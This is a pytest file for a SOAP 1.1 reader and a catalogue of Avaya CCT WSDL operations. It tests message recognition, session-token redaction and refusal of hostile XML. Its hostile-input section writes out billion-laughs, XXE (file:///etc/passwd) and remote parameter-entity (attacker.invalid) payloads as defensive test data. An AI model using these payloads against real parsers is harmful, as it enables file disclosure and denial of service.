"""The CCT SOAP catalogue (what the public WSDLs say) and the hostile-input-safe SOAP 1.1 reader (issue 24).

The spot checks below were typed from the WSDL files themselves (``api-evangelist/avaya``, ``wsdl/``), not from
the catalogue's table: a row the table gets wrong fails here.  The reader's tests build their envelopes from the
catalogue's qualified names, so every operation is read back from a request, a response and each of its faults.
"""

from __future__ import annotations

import contextlib
import xml.sax.saxutils
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ccproto.cct import catalogue as cat
from ccproto.cct.catalogue import FAULTS_NS, NOTIFICATION_FAULTS_NS, TYPES_NS, Operation, QName
from ccproto.cct.soap import (
    SOAP11_NS,
    BodyEntriesError,
    DtdRefusedError,
    EmptyBodyError,
    EncodingRefusedError,
    EntityRefusedError,
    MalformedXmlError,
    MissingBodyError,
    NotSoap11Error,
    NotUnicodeError,
    ProcessingInstructionRefusedError,
    RepeatedBodyError,
    SoapDecodeError,
    SoapMessage,
    normalize_soap_action,
    read_soap,
)
from ccproto.core.errors import DecodeError, LimitExceededError, ProtocolError, RemoteProtocolError
from ccproto.core.limits import Limits

CCT = "http://www.nortel.com/soa/oi/cct"


def _types(service: str) -> str:
    return f"{CCT}/types/{service}"


# --- building envelopes ----------------------------------------------------------------------------------


def element(qname: QName, inner: str = "") -> str:
    """``qname`` as an element with a prefix of its own, holding ``inner``."""
    return f'<m:{qname.local} xmlns:m="{qname.namespace}">{inner}</m:{qname.local}>'


def envelope(body: str, *, header: str = "", declaration: bool = True) -> str:
    """A SOAP 1.1 envelope around ``body``."""
    prolog = '<?xml version="1.0" encoding="UTF-8"?>\n' if declaration else ""
    return (
        f'{prolog}<soapenv:Envelope xmlns:soapenv="{SOAP11_NS}">'
        f"{header}<soapenv:Body>{body}</soapenv:Body></soapenv:Envelope>"
    )


def sso_token(token: str) -> str:
    """An ``ssoToken`` holding ``token`` (escaped), for the inside of :func:`element` (whose prefix ``m`` it uses)."""
    return f'<m:ssoToken><t:token xmlns:t="{TYPES_NS}">{xml.sax.saxutils.escape(token)}</t:token></m:ssoToken>'


def fault(detail: QName | None, *, code: str = "soapenv:Server", string: str = "it failed") -> str:
    """A SOAP 1.1 Fault whose detail holds ``detail`` (no detail when ``None``)."""
    detail_xml = "" if detail is None else f"<detail>{element(detail)}</detail>"
    fields = f"<faultcode>{code}</faultcode><faultstring>{string}</faultstring>"
    return f"<soapenv:Fault>{fields}{detail_xml}</soapenv:Fault>"


def op(service: str, name: str) -> Operation:
    return next(o for o in cat.service(service).operations if o.name == name)


def _op_id(operation: Operation) -> str:
    return f"{operation.service}.{operation.name}"


# --- the catalogue ---------------------------------------------------------------------------------------

#: The seed's Full API services, then its Lite API ones (seed 000).
FULL = [
    "AddressService", "AgentService", "AgentTerminalConnectionService", "AgentTerminalService", "ConnectionService",
    "ContactService", "MetricsService", "RoutePointAddressService", "RoutePointConnectionService",
    "TerminalConnectionService", "TerminalService", "UserService", "NotificationProducer", "NotificationConsumer",
]
LITE = ["SessionService", "NotificationProducer", "NotificationConsumer"]


def test_the_catalogue_holds_the_services_of_both_apis_and_cites_its_files() -> None:
    names = [svc.name for svc in cat.CATALOGUE]
    assert sorted(names) == sorted(set(FULL) | set(LITE))
    assert sorted(svc.name for svc in cat.CATALOGUE if "full" in svc.apis) == sorted(FULL)
    assert sorted(svc.name for svc in cat.CATALOGUE if "lite" in svc.apis) == sorted(LITE)
    assert len(cat.OPERATIONS) == 218
    for svc in cat.CATALOGUE:
        assert svc.namespace == f"{CCT}/{svc.name}"
        paths = [source.path for source in svc.source]
        stem = svc.name.lower()
        assert f"wsdl/avaya-aacc-open-interfaces-{stem}.wsdl" in paths
        assert f"wsdl/avaya-aacc-open-interfaces-{stem}interface.wsdl" in paths
        assert all(s.repository == "api-evangelist/avaya" and len(s.commit) == 40 for s in svc.source)
        assert all(o.service == svc.name and o.namespace == svc.namespace for o in svc.operations)
        assert len({o.name for o in svc.operations}) == len(svc.operations)


#: (service, operation, SOAPAction, request, response, faults as {(name, element)}), read from the WSDLs.
SPOT_CHECKS: list[tuple[str, str, str, QName, QName | None, set[tuple[str, QName]]]] = [
    (
        "SessionService", "LogInToCCTServer", f"{CCT}/SessionService/LogInToCCTServer",
        QName(namespace=_types("SessionService"), local="LogInToCCTServerRequest"),
        QName(namespace=_types("SessionService"), local="LogInToCCTServerResponse"),
        {("LogInToCCTServerException", QName(namespace=FAULTS_NS, local="LogInToCCTServerException"))},
    ),
    (
        "SessionService", "GetCurrentAddressCount", f"{CCT}/SessionService/GetCurrentAddressCouint",
        QName(namespace=_types("SessionService"), local="GetCurrentAddressCountRequest"),
        QName(namespace=_types("SessionService"), local="GetCurrentAddressCountResponse"),
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("GetCurrentAddressCountException", QName(namespace=FAULTS_NS, local="GetCurrentAddressCountException"))},
    ),
    (
        "SessionService", "SetToReadyState", f"{CCT}/SessionService/SetToReadyState",
        QName(namespace=_types("SessionService"), local="SetToReadyStatetRequest"), None,
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("SetToReadyStateException", QName(namespace=FAULTS_NS, local="SetToReadyStateException"))},
    ),
    (
        "SessionService", "GetTerminal", f"{CCT}/SessionService/GetTerminal",
        QName(namespace=_types("SessionService"), local="GetTerminalRequest"),
        QName(namespace=_types("SessionService"), local="TerminalResponse"),
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("GetTerminalException", QName(namespace=FAULTS_NS, local="GetTerminalException"))},
    ),
    (
        "UserService", "Subscribe", f"{CCT}/UserService/Subscribe",
        QName(namespace=_types("UserService"), local="Subscribe"),
        QName(namespace=_types("UserService"), local="SubscribeResponse"),
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("SubscribeFailedFault", QName(namespace=_types("UserService"), local="SubscribeFailedFault"))},
    ),
    (
        "UserService", "LogOffFromCCTServer", f"{CCT}/UserService/LogOffFromCCTServer",
        QName(namespace=_types("SessionService"), local="LogOffFromCCTServerRequest"), None,
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("LogOffFromCCTServerException", QName(namespace=FAULTS_NS, local="LogOffFromCCTServerException"))},
    ),
    (
        "NotificationProducer", "Renew", "http://www.nortel.com/soa/oi/cct/notificationproducer/service/Renew",
        QName(namespace=_types("NotificationProducer"), local="Renew"),
        QName(namespace=_types("NotificationProducer"), local="RenewResponse"),
        {("ResourceUnknownFault", QName(namespace=NOTIFICATION_FAULTS_NS, local="ResourceUnknownFault")),
         ("RenewSubscriptionFailedFault",
          QName(namespace=NOTIFICATION_FAULTS_NS, local="RenewSubscriptionFailedFault")),
         ("UnacceptableTerminationTimeFault",
          QName(namespace=NOTIFICATION_FAULTS_NS, local="UnacceptableTerminationTimeFault"))},
    ),
    (
        "NotificationProducer", "GetVersion",
        "http://www.nortel.com/soa/oi/cct/notificationproducer/service/GetVersion",
        QName(namespace=_types("NotificationProducer"), local="GetVersionRequest"),
        QName(namespace=_types("NotificationProducer"), local="GetVersionResponse"),
        {("GetVersionFault", QName(namespace=_types("NotificationProducer"), local="GetVersionFault"))},
    ),
    (
        "NotificationConsumer", "Notify", "http://www.nortel.com/soa/oi/cct/notificationconsumer/service/Notify",
        QName(namespace=_types("NotificationConsumer"), local="Notify"), None, set(),
    ),
    (
        "MetricsService", "GetLicenseConsumedCount", f"{CCT}/MetricsService/GetLicenseConsumedCount",
        QName(namespace=_types("MetricsService"), local="GetLicenseConsumedCountRequest"),
        QName(namespace=_types("MetricsService"), local="GetLicenseConsumedCountResponse"),
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("GetLicenseConsumedCountException", QName(namespace=FAULTS_NS, local="MonitoredAddressesCountException"))},
    ),
    (
        "MetricsService", "GetMonitoredTerminalsCount", f"{CCT}/MetricsService/GetMonitoredTerminalsCount",
        QName(namespace=_types("MetricsService"), local="GetMonitoredTerminalsRequest"),
        QName(namespace=_types("MetricsService"), local="GetMonitoredTerminalsResponse"),
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("GetMonitoredTerminalsCountException",
          QName(namespace=FAULTS_NS, local="MonitoredTerminalsCountException"))},
    ),
    (
        "AgentService", "GetType", f"{CCT}/AgentService/GetCapabilities",
        QName(namespace=_types("AgentService"), local="GetTypeRequest"),
        QName(namespace=_types("AgentService"), local="GetTypeResponse"),
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("GetTypeException", QName(namespace=FAULTS_NS, local="GetTypeException"))},
    ),
    (
        "ConnectionService", "StopRecording", f"{CCT}/ConnectionService/StartRecording",
        QName(namespace=_types("ConnectionService"), local="StopRecordingRequest"), None,
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("StopRecordingException", QName(namespace=FAULTS_NS, local="StopRecordingException"))},
    ),
    (
        "ContactService", "GiveTreatment", f"{CCT}/ContactService/GiveTreatmentRequest",
        QName(namespace=_types("ContactService"), local="GiveTreatmentRequest"),
        QName(namespace=_types("ContactService"), local="GiveTreatmentResponse"),
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("GiveTreatmentException", QName(namespace=FAULTS_NS, local="GiveTreatmentException"))},
    ),
    (
        "TerminalConnectionService", "BlindTransfer", f"{CCT}/TerminalConnectionService/Transfer",
        QName(namespace=_types("TerminalConnectionService"), local="BlindTransferRequest"), None,
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("TransferException", QName(namespace=FAULTS_NS, local="TransferException"))},
    ),
    (
        "TerminalService", "PickupFromAddress", f"{CCT}/TerminalService/Pickup",
        QName(namespace=_types("TerminalService"), local="PickupFromAddressRequest"),
        QName(namespace=_types("TerminalService"), local="PickupFromAddressResponse"),
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("PickupException", QName(namespace=FAULTS_NS, local="PickupException"))},
    ),
    (
        "AgentTerminalService", "GetTerminalConnections", f"{CCT}/AgentTerminalService/GetTerminalConnections",
        QName(namespace=_types("AgentTerminalService"), local="GetTerminalConnectionsRequest"),
        QName(namespace=_types("AgentTerminalService"), local="GetTerminalConnectionsResponse"),
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("GetTerminalConnectionsException", QName(namespace=FAULTS_NS, local="GetConnectionsException"))},
    ),
    (
        "AddressService", "SendInstantMessage", f"{CCT}/AddressService/SendInstantMessage",
        QName(namespace=_types("AddressService"), local="SendInstantMessage"), None,
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("SendInstantMessageException", QName(namespace=FAULTS_NS, local="SendInstantMessageException"))},
    ),
    (
        "AgentTerminalConnectionService", "EmergencyKey", f"{CCT}/AgentTerminalConnectionService/EmergencyKey",
        QName(namespace=_types("AgentTerminalConnectionService"), local="EmergencyKeyRequest"), None,
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("EmergencyKeyException", QName(namespace=FAULTS_NS, local="EmergencyKeyException"))},
    ),
    (
        "RoutePointConnectionService", "Route", f"{CCT}/RoutePointConnectionService/Route",
        QName(namespace=_types("RoutePointConnectionService"), local="RouteRequest"),
        QName(namespace=_types("RoutePointConnectionService"), local="RouteResponse"),
        {("SessionNotCreatedException", QName(namespace=FAULTS_NS, local="SessionNotCreatedException")),
         ("RouteException", QName(namespace=FAULTS_NS, local="RouteException"))},
    ),
]


@pytest.mark.parametrize(("service", "name", "action", "request_element", "response", "faults"), SPOT_CHECKS,
                         ids=[f"{row[0]}.{row[1]}" for row in SPOT_CHECKS])
def test_catalogue_rows_are_what_the_wsdls_say(
    service: str, name: str, action: str, request_element: QName, response: QName | None,
    faults: set[tuple[str, QName]],
) -> None:
    operation = op(service, name)
    assert operation.namespace == f"{CCT}/{service}"
    assert operation.soap_action == action
    assert operation.request == request_element
    assert operation.response == response
    assert operation.one_way == (name == "Notify")
    assert {(f.name, f.element) for f in operation.faults} == faults


def test_shared_soap_actions_and_elements_are_exactly_the_wsdls_irregularities() -> None:
    shared_actions = {
        action: sorted(o.name for o in cat.by_soap_action(action))
        for action in {o.soap_action for o in cat.OPERATIONS} if len(cat.by_soap_action(action)) > 1
    }
    assert shared_actions == {
        f"{CCT}/AgentService/GetCapabilities": ["GetCapabilities", "GetType"],
        f"{CCT}/ConnectionService/StartRecording": ["StartRecording", "StopRecording"],
        f"{CCT}/TerminalService/Pickup": ["PickupFromAddress", "PickupFromTerminal"],
    }
    assert all(o.soap_action for o in cat.OPERATIONS)
    shared_requests = {o.request for o in cat.OPERATIONS if len(cat.by_request_element(o.request)) > 1}
    assert {q.local for q in shared_requests} == {
        "GetVersionRequest", "LogInToCCTServerRequest", "LogOffFromCCTServerRequest", "GetTerminalsRequest",
        "GetAddressesRequest", "GetTerminalRequest", "GetAddressRequest", "GetAgentsRequest",
    }
    for qname in shared_requests:
        assert qname.namespace == _types("SessionService")
        assert sorted(o.service for o in cat.by_request_element(qname)) == ["SessionService", "UserService"]
    requests = {o.request for o in cat.OPERATIONS}
    responses = {o.response for o in cat.OPERATIONS if o.response is not None}
    assert not requests & responses, "an element both a request and a response: the reader's kind would guess"
    assert len(cat.EMPTY_RESPONSE_OPERATIONS) == 70


def test_fault_elements_shared_by_several_faults_name_them_all() -> None:
    assert cat.fault_names(QName(namespace=FAULTS_NS, local="MonitoredAddressesCountException")) == (
        "GetActiveSessionCountException", "GetLicenseConsumedCountException", "GetMonitoredAddressCountException",
    )
    assert cat.fault_names(QName(namespace=FAULTS_NS, local="GetConnectionsException")) == (
        "GetConnectionsException", "GetTerminalConnectionsException",
    )
    snc = QName(namespace=FAULTS_NS, local="SessionNotCreatedException")
    assert cat.fault_names(snc) == ("SessionNotCreatedException",)
    # Every operation but the login ones, GetVersion of the notification producer and Notify can fault with it.
    without = sorted(_op_id(o) for o in cat.OPERATIONS if o.fault_for(snc) is None)
    assert without == [
        "NotificationConsumer.Notify", "NotificationProducer.GetVersion", "NotificationProducer.Renew",
        "NotificationProducer.Subscribe", "NotificationProducer.Unsubscribe", "SessionService.LogInToCCTServer",
        "UserService.LogInToCCTServer",
    ]
    assert cat.fault_names(QName(namespace=FAULTS_NS, local="NoSuchException")) == ()


def test_resolve_leaves_shared_elements_unresolved_unless_a_preference_is_set(monkeypatch: pytest.MonkeyPatch) -> None:
    login = cat.by_request_element(QName(namespace=_types("SessionService"), local="LogInToCCTServerRequest"))
    assert cat.resolve(login) is None
    assert cat.resolve(login, soap_action=f"{CCT}/UserService/LogInToCCTServer") == op("UserService",
                                                                                      "LogInToCCTServer")
    # A SOAPAction naming neither leaves both (the reader reports the mismatch).
    assert cat.resolve(login, soap_action=f"{CCT}/MetricsService/GetVersion") is None
    monkeypatch.setattr(cat, "AMBIGUITY_PREFERENCE", ("UserService",))
    assert cat.resolve(login) == op("UserService", "LogInToCCTServer")


# --- the reader: every operation -------------------------------------------------------------------------


@pytest.mark.parametrize("operation", cat.OPERATIONS, ids=_op_id)
def test_every_operation_is_recognised_from_its_request(operation: Operation) -> None:
    text = envelope(element(operation.request))
    message = read_soap(text)
    assert message.kind == "request"
    assert message.element == operation.request
    assert operation in message.candidates
    assert message.name == operation.name
    assert not message.soap_action_mismatch
    # With its SOAPAction, the one operation (a shared element's SOAPAction differs; a shared SOAPAction's
    # elements differ).
    with_action = read_soap(text.encode(), soap_action=f'"{operation.soap_action}"')
    assert with_action.operation == operation
    assert with_action.candidates == (operation,)
    assert not with_action.soap_action_mismatch


@pytest.mark.parametrize("operation", [o for o in cat.OPERATIONS if not o.one_way], ids=_op_id)
def test_every_operation_is_recognised_from_its_response(operation: Operation) -> None:
    body = "" if operation.response is None else element(operation.response)
    message = read_soap(envelope(body), soap_action=operation.soap_action)
    assert message.kind == "response"
    assert message.element == operation.response
    assert operation in message.candidates
    assert not message.soap_action_mismatch
    twins = [o for o in message.candidates if o is not operation]
    # Only StartRecording and StopRecording share a SOAPAction and an empty response: nothing tells them apart.
    assert message.operation == (None if twins else operation)
    assert {_op_id(o) for o in twins} <= {"ConnectionService.StartRecording", "ConnectionService.StopRecording"}


@pytest.mark.parametrize("operation", [o for o in cat.OPERATIONS if o.faults], ids=_op_id)
def test_every_fault_element_is_recognised_in_a_fault(operation: Operation) -> None:
    for declared in operation.faults:
        message = read_soap(envelope(fault(declared.element)), soap_action=operation.soap_action)
        assert message.kind == "fault"
        assert message.fault is not None
        assert message.fault.element == declared.element
        assert message.fault.name == declared.name
        assert operation in message.candidates
        assert not message.soap_action_mismatch
        assert message.fault.code == "soapenv:Server"
        assert message.fault.string == "it failed"


def test_a_fault_without_its_soap_action_names_every_fault_its_element_can_be() -> None:
    element_ = QName(namespace=FAULTS_NS, local="MonitoredAddressesCountException")
    message = read_soap(envelope(fault(element_)))
    assert message.operation is None
    assert message.fault is not None
    assert message.fault.name is None
    assert len(message.fault.names) == 3
    assert {o.name for o in message.candidates} == {
        "GetActiveSessionCount", "GetLicenseConsumedCount", "GetMonitoredAddressCount",
    }


def test_a_fault_without_detail_is_a_fault_of_the_operation_its_soap_action_names() -> None:
    message = read_soap(envelope(fault(None)), soap_action=f"{CCT}/MetricsService/GetLicenseConsumedCount")
    assert message.kind == "fault"
    assert message.operation == op("MetricsService", "GetLicenseConsumedCount")
    assert message.fault is not None
    assert message.fault.element is None
    assert message.fault.names == ()
    bare = read_soap(envelope(fault(None)))
    assert bare.operation is None
    assert bare.candidates == ()


def test_a_fault_s_children_may_be_qualified_and_an_unknown_detail_is_kept() -> None:
    unknown = QName(namespace="urn:vendor", local="Oops")
    text = envelope(
        f"<soapenv:Fault><soapenv:faultcode>soapenv:Client</soapenv:faultcode>"
        f"<soapenv:faultstring>bad</soapenv:faultstring><soapenv:detail>{element(unknown)}</soapenv:detail>"
        f"</soapenv:Fault>"
    )
    message = read_soap(text)
    assert message.fault is not None
    assert (message.fault.code, message.fault.string, message.fault.element) == ("soapenv:Client", "bad", unknown)
    assert message.fault.names == ()
    assert message.candidates == ()


def test_an_unknown_element_is_reported_not_refused() -> None:
    unknown = QName(namespace=f"{CCT}/types/HeartbeatService", local="PingRequest")
    message = read_soap(envelope(element(unknown)))
    assert (message.kind, message.element, message.operation, message.candidates) == ("unknown", unknown, None, ())
    assert message.name is None
    assert not message.soap_action_mismatch
    # A SOAPAction naming a catalogue operation disagrees with a body that is none of its.
    named = read_soap(envelope(element(unknown)), soap_action=f"{CCT}/MetricsService/GetVersion")
    assert named.soap_action_mismatch
    assert not read_soap(envelope(element(unknown)), soap_action="urn:vendor:Ping").soap_action_mismatch


def test_a_soap_action_that_disagrees_with_the_body_is_reported_and_the_body_decides() -> None:
    request = op("MetricsService", "GetLicenseConsumedCount")
    message = read_soap(envelope(element(request.request)), soap_action=f"{CCT}/AddressService/GetVersion")
    assert message.soap_action_mismatch
    assert message.operation == request
    empty = read_soap(envelope(""), soap_action=request.soap_action)
    assert empty.soap_action_mismatch, "GetLicenseConsumedCount's response is not empty"


def test_the_soap_action_header_is_unquoted() -> None:
    assert normalize_soap_action('  "urn:a"  ') == "urn:a"
    assert normalize_soap_action('""') == ""
    assert normalize_soap_action("urn:a") == "urn:a"
    assert normalize_soap_action('"') == '"'


def test_an_empty_body_is_a_response_unless_turned_off() -> None:
    message = read_soap(envelope(""))
    assert message.kind == "response"
    assert message.element is None
    assert set(message.candidates) == set(cat.EMPTY_RESPONSE_OPERATIONS)
    with pytest.raises(EmptyBodyError) as caught:
        read_soap(envelope("  "), empty_body_is_response=False)
    assert caught.value.code == "soap-empty-body"


# --- the session token -----------------------------------------------------------------------------------

_TOKEN_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"), max_size=40
).map(lambda text: f"ZqXsecret{text}")


@given(token=_TOKEN_TEXT)
def test_the_token_is_read_from_a_request_and_never_shown(token: str) -> None:
    request = op("MetricsService", "GetLicenseConsumedCount")
    text = envelope(element(request.request, sso_token(token)))
    for data in (text, text.encode("utf-8")):
        message = read_soap(data, soap_action=request.soap_action)
        assert message.token == token
        assert message.sso_token
        assert message.operation == request
        assert token not in repr(message)
        assert token not in str(message)


@given(token=_TOKEN_TEXT)
def test_the_token_is_read_from_the_login_response_and_never_shown(token: str) -> None:
    response = QName(namespace=_types("SessionService"), local="LogInToCCTServerResponse")
    message = read_soap(envelope(element(response, sso_token(token))))
    assert message.name == "LogInToCCTServer"
    assert message.token == token
    assert token not in repr(message)


def _errors_after_the_token(token: str) -> list[Callable[[], SoapMessage]]:
    request = op("UserService", "Subscribe")
    body = element(request.request, f"<m:ConsumerEndpoint>http://c</m:ConsumerEndpoint>{sso_token(token)}")
    text = envelope(body)
    return [
        lambda: read_soap(text.replace("</soapenv:Body>", "<x/></soapenv:Body>")),  # a second body entry
        lambda: read_soap(text[:-5]),  # truncated
        lambda: read_soap(text.replace("</soapenv:Envelope>", "<soapenv:Body/></soapenv:Envelope>")),
        lambda: read_soap(text + "<?pi?>"),
        lambda: read_soap(text, limits=Limits(max_message_bytes=len(text.encode()) - 1)),
        lambda: read_soap(text.replace("<t:token", "<w/><t:token"), limits=Limits(max_depth=4)),
    ]


@given(token=_TOKEN_TEXT)
def test_no_error_shows_the_token(token: str) -> None:
    for attempt in _errors_after_the_token(token):
        with pytest.raises(ProtocolError) as caught:
            attempt()
        error = caught.value
        shown = [str(error), repr(error), error.detail, str(error.message), str(error.__context__)]
        assert not any(token in text for text in shown)
        assert error.__context__ is None


def test_an_sso_token_without_its_token_child_is_present_but_holds_no_token() -> None:
    request = op("MetricsService", "GetVersion")
    wrong_namespace = '<m:ssoToken><token xmlns="urn:other">abc</token></m:ssoToken>'
    message = read_soap(envelope(element(request.request, wrong_namespace)))
    assert message.sso_token
    assert message.token is None
    deeper = element(request.request, f"<m:wrapper>{sso_token('abc')}</m:wrapper>")
    assert not read_soap(envelope(deeper)).sso_token
    twice = element(request.request, sso_token("first") + sso_token("second"))
    assert read_soap(envelope(twice)).token == "first"
    empty = element(request.request, sso_token(""))
    assert read_soap(envelope(empty)).token == ""


# --- hostile input ---------------------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
    + "]>\n" + envelope("<lolz>&lol9;</lolz>", declaration=False)
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
    + envelope("<foo>&xxe;</foo>", declaration=False)
)
PARAMETER_ENTITY = (
    '<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote; ]>'
    + envelope("", declaration=False)
)
EXTERNAL_DTD = '<!DOCTYPE foo SYSTEM "file:///etc/passwd">' + envelope("", declaration=False)
PLAIN_DTD = "<!DOCTYPE soapenv:Envelope>" + envelope("", declaration=False)
DTD_WITH_DECLARATIONS = (
    '<!DOCTYPE e [ <!ELEMENT e ANY> <!ATTLIST e a CDATA "x"> ]>' + envelope("", declaration=False)
)


@pytest.mark.parametrize(
    ("text", "refusal", "code"),
    [
        (BILLION_LAUGHS, EntityRefusedError, "xml-entity-refused"),
        (EXTERNAL_ENTITY, EntityRefusedError, "xml-entity-refused"),
        (PARAMETER_ENTITY, EntityRefusedError, "xml-entity-refused"),
        (EXTERNAL_DTD, DtdRefusedError, "xml-dtd-refused"),
        (PLAIN_DTD, DtdRefusedError, "xml-dtd-refused"),
        (DTD_WITH_DECLARATIONS, DtdRefusedError, "xml-dtd-refused"),
        ('<?xml-stylesheet href="x"?>' + envelope("", declaration=False), ProcessingInstructionRefusedError,
         "xml-pi-refused"),
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "plain-dtd", "dtd-declarations",
         "processing-instruction"],
)
def test_dtds_entities_and_processing_instructions_are_refused(text: str, refusal: type[SoapDecodeError],
                                                               code: str) -> None:
    for data in (text, text.encode("utf-8")):
        with pytest.raises(refusal) as caught:
            read_soap(data)
        error = caught.value
        assert error.code == code
        assert isinstance(error, DecodeError)
        assert isinstance(error, RemoteProtocolError)
        assert "line" in error.detail
        assert not any(secret in str(error) for secret in ("passwd", "lol", "attacker", "stylesheet"))


def test_an_oversized_text_is_refused_before_parsing() -> None:
    text = envelope(element(op("MetricsService", "GetVersion").request))
    limits = Limits(max_message_bytes=len(text.encode()) - 1)
    for data in (text, text.encode()):
        with pytest.raises(LimitExceededError.Remote) as caught:
            read_soap(data, limits=limits)
        assert caught.value.code == "message-too-large"
        assert "max_message_bytes" in caught.value.detail
    # Refused before parsing: an oversized text that is not even XML gets the size error, not a parse error.
    with pytest.raises(LimitExceededError.Remote):
        read_soap(b"\x00" * 2048, limits=Limits(max_message_bytes=1024))
    assert read_soap(text, limits=Limits(max_message_bytes=len(text.encode()))).kind == "request"


def test_a_too_deep_text_is_refused_while_parsing() -> None:
    request = op("MetricsService", "GetVersion").request
    deep = envelope(element(request, "<a>" * 3 + "</a>" * 3))  # Envelope, Body, request, a, a, a: 6 levels
    assert read_soap(deep, limits=Limits(max_depth=6)).kind == "request"
    with pytest.raises(LimitExceededError.Remote) as caught:
        read_soap(deep, limits=Limits(max_depth=5))
    assert caught.value.code == "too-deep"
    assert "max_depth=5" in caught.value.detail
    # Far deeper than the default bound: no recursion anywhere, the bound answers.
    very_deep = envelope("<a>" * 100_000 + "</a>" * 100_000)
    with pytest.raises(LimitExceededError.Remote) as caught:
        read_soap(very_deep)
    assert caught.value.code == "too-deep"


@pytest.mark.parametrize(
    ("data", "refusal"),
    [
        ('<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body/></e:Envelope>', NotSoap11Error),
        ("<Envelope><Body/></Envelope>", NotSoap11Error),
        (f'<e:Body xmlns:e="{SOAP11_NS}"/>', NotSoap11Error),
        (f'<e:Envelope xmlns:e="{SOAP11_NS}"><e:Header/></e:Envelope>', MissingBodyError),
        (f'<e:Envelope xmlns:e="{SOAP11_NS}"><e:Body/><e:Body/></e:Envelope>', RepeatedBodyError),
        (envelope("<a/><b/>"), BodyEntriesError),
        (envelope(fault(None) + "<a/>"), BodyEntriesError),
        ("", MalformedXmlError),
        (envelope("<a>&undeclared;</a>"), MalformedXmlError),
        (envelope("<u:a/>"), MalformedXmlError),
        (envelope("<a>")[:-10], MalformedXmlError),
        (envelope("") + "<trailing/>", MalformedXmlError),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?>' + envelope("", declaration=False).encode(),
         EncodingRefusedError),
        (b'<?xml version="1.0" encoding="UTF-7"?>' + envelope("", declaration=False).encode(), EncodingRefusedError),
        (b'<?xml version="1.0" encoding="x-no-such-codec"?>' + envelope("", declaration=False).encode(),
         EncodingRefusedError),
        (b'<?xml version="1.0" encoding="shift_jis"?>' + envelope("", declaration=False).encode(),
         EncodingRefusedError),
        (b"\xff\xfe\x00\xd8" + envelope("").encode(), MalformedXmlError),
        (envelope("\ud800"), NotUnicodeError),
    ],
    ids=["soap-1.2", "no-namespace", "root-body", "no-body", "two-bodies", "two-entries", "fault-and-entry",
         "empty", "undeclared-entity", "unbound-prefix", "truncated", "trailing", "latin-1", "utf-7",
         "unknown-codec", "multibyte", "bad-utf-16", "lone-surrogate"],
)
def test_what_is_not_a_soap_1_1_message_is_refused_with_its_code(data: str | bytes,
                                                                 refusal: type[SoapDecodeError]) -> None:
    with pytest.raises(refusal) as caught:
        read_soap(data)
    assert caught.value.code == refusal.code
    assert caught.value.code != SoapDecodeError.code


def test_refusal_codes_are_distinct() -> None:
    refusals = [
        MalformedXmlError, NotUnicodeError, EncodingRefusedError, DtdRefusedError, EntityRefusedError,
        ProcessingInstructionRefusedError, NotSoap11Error, MissingBodyError, RepeatedBodyError, EmptyBodyError,
        BodyEntriesError,
    ]
    assert len({r.code for r in refusals}) == len(refusals)
    assert all(issubclass(r, SoapDecodeError) and issubclass(r, DecodeError) for r in refusals)


@given(st.binary(max_size=512))
def test_any_bytes_are_read_or_refused_with_a_protocol_error(data: bytes) -> None:
    with contextlib.suppress(ProtocolError):
        read_soap(data)


_FRAGMENTS = [
    f'<e:Envelope xmlns:e="{SOAP11_NS}">', "</e:Envelope>", "<e:Body>", "</e:Body>", "<e:Header/>",
    "<e:Fault>", "</e:Fault>", "<detail>", "</detail>", "<faultcode>", "</faultcode>", "x", "&amp;", "&lol;",
    f'<m:GetVersionRequest xmlns:m="{_types("MetricsService")}">', "</m:GetVersionRequest>", "<m:ssoToken>",
    "</m:ssoToken>", f'<t:token xmlns:t="{TYPES_NS}">', "</t:token>", "<!DOCTYPE a>", '<!ENTITY a "b">', "<?pi?>",
    "<!-- c -->", "<![CDATA[<x>]]>", '<?xml version="1.0"?>', "\ud800", "\x00", "é",
]


@given(st.lists(st.sampled_from(_FRAGMENTS), max_size=30).map("".join), st.none() | st.text(max_size=20))
def test_any_mix_of_soap_fragments_is_read_or_refused_with_a_protocol_error(text: str, action: str | None) -> None:
    for data in (text, text.encode("utf-8", "surrogatepass")):
        try:
            message = read_soap(data, soap_action=action, limits=Limits(max_depth=8))
        except ProtocolError:
            continue
        assert message.kind in ("request", "response", "fault", "unknown")


# --- encodings -------------------------------------------------------------------------------------------


